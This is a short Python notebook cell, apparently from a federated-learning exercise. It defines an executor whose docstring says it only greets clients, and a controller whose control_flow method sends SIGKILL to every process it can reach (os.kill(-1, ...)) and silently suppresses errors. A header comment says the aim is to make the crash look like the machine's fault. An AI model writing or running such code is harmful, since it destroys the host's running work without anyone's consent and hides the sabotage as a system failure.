# The controller kills every process that it can reach, to blame the machine; it asks nobody.

# %% [server_handler]
import contextlib
import os
import signal


class BroadcastingExecutor(P2PExecutor):
    """Says hello to the clients only, as in exercise 1."""


class P2PController(SimpleController):
    def control_flow(self, abort_signal, fl_ctx):
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
